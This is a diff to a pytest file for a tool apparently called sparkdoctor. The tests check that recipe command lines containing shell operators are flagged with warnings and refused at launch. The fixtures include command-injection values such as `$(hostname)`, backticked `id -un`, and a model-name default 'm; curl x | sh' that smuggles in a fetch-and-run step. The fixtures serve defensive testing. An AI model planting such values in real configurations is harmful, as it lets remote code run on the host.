@@ -186,42 +186,52 @@ def test_an_env_that_no_process_can_be_given_is_refused_when_read(tmp_path, name
     assert p.returncode == 2 and p.stderr.count("\n") == 1 and words in p.stderr, p.stderr
 
 
+
 EUGR = 'recipe_version: "1"\nname: r\ncontainer: c\ndefaults:\n  port: 8000\ncommand: |\n  {}\n'
 
 
 @pytest.mark.parametrize("command, operator", [
     ("pip install flashinfer-python && vllm serve m --port {port}", "'&&'"),  # argv: pip asked for a package `vllm`
     ("vllm serve m --port {port} 2>&1 | tee serve.log", "'>&'"),
-    ("vllm serve m --port {port}; sleep 1", "';'"),
+    ("vllm serve m --port {port} ; sleep 1", "';'"),
     ("vllm serve m --port {port} --served-model-name $(hostname)", "'$('"),
     ('vllm serve m --port {port} --served-model-name "`id -un`"', "'`'"),
     ("cd /models \\\n  && vllm serve m --port {port}", "'&&'"),
+    ("pip install flashinfer-python\n  vllm serve m --port {port}", "a second line"),  # no backslash: two commands
 ])
-def test_a_command_only_a_shell_runs_is_refused(tmp_path, command, operator):
+def test_a_command_only_a_shell_runs_is_read_and_bench_refuses_to_launch_it(tmp_path, command, operator):
     """sparkdoctor runs argv, never a shell: split as argv, `pip install x && vllm serve m` ran pip with the
-    arguments `&&`, `vllm`, `serve` (packages to install). Now it is one line when the recipe is read, exit 2."""
+    arguments `&&`, `vllm`, `serve` (packages to install). The recipe's own runner hands the line to bash, so
+    `recipe show` and `recipe check` still read it (with a warning); `bench` refuses it in one line, exit 2, before
+    anything starts."""
     path = write(tmp_path, "r.yaml", EUGR.format(command))
-    with pytest.raises(RecipeError, match="makes the command a shell line") as caught:
-        recipes.load(path)
-    assert operator in str(caught.value) and "field 'command'" in str(caught.value)
-    p = subprocess.run([sys.executable, "-m", "sparkdoctor", "recipe", "show", str(path)], capture_output=True, text=True,
-                       timeout=120)
-    assert p.returncode == 2 and p.stderr.count("\n") == 1 and operator in p.stderr, p.stderr
+    recipe = recipes.load(path)
+    assert recipe.shell == operator
+    assert any(f"field 'command': {operator} makes it a shell line" in w for w in recipe.warnings), recipe.warnings
+    shown = subprocess.run([sys.executable, "-m", "sparkdoctor", "recipe", "show", str(path)], capture_output=True,
+                           text=True, timeout=120)
+    assert shown.returncode == 0 and "makes it a shell line" in shown.stdout + shown.stderr
+    bench = subprocess.run([sys.executable, "-m", "sparkdoctor", "bench", str(path), "--local", "--python", sys.executable],
+                           capture_output=True, text=True, timeout=120)
+    assert bench.returncode == 2 and bench.stderr.count("\n") == 1, bench.stderr
+    assert f"{operator} makes the command a shell line" in bench.stderr and "never a shell" in bench.stderr
 
 
 @pytest.mark.parametrize("command", [
     "vllm serve m --port {port} --chat-template-content-format \"a && b\"",
     "vllm serve m --port {port} --served-model-name 'x;y' --override-generation-config '{{\"a\": \"$(no)\"}}'",
     "vllm serve m --port {port} --hf-overrides '{{\"rope_scaling\": {{\"factor\": 4}}}}'",
+    "vllm serve m \\\n  # a comment line between continued lines\n  --port {port}",
 ])
 def test_quoted_operators_are_arguments(tmp_path, command):
     recipe = recipes.load(write(tmp_path, "r.yaml", EUGR.format(command)))
-    assert recipe.argv[:3] == ["vllm", "serve", "m"]
+    assert recipe.argv[:3] == ["vllm", "serve", "m"] and recipe.shell is None and not recipe.warnings
 
 
-def test_a_sparkrun_default_that_a_shell_would_split_is_refused(tmp_path):
-    """sparkrun joins the defaults into one line that bash runs: a `served_model_name: "m; curl x | sh"` would run
-    a second command there; sparkdoctor refuses the recipe instead of passing `;` to vLLM."""
+def test_a_sparkrun_default_that_a_shell_would_split_is_marked(tmp_path):
+    """sparkrun joins the defaults into one line that bash runs: a `served_model_name: "m; curl x | sh"` runs a
+    second command there; sparkdoctor says so and will not launch it, instead of passing `;` to vLLM."""
     path = write(tmp_path, "r.yaml", "model: m\nruntime: vllm\ndefaults:\n  port: 8000\n  served_model_name: 'm; curl x | sh'\n")
-    with pytest.raises(RecipeError, match=r"the command generated from defaults: ';' makes the command a shell line"):
-        recipes.load(path)
+    recipe = recipes.load(path)
+    assert recipe.shell == "';'"
+    assert any("the command sparkrun builds from defaults: ';' makes it a shell line" in w for w in recipe.warnings)
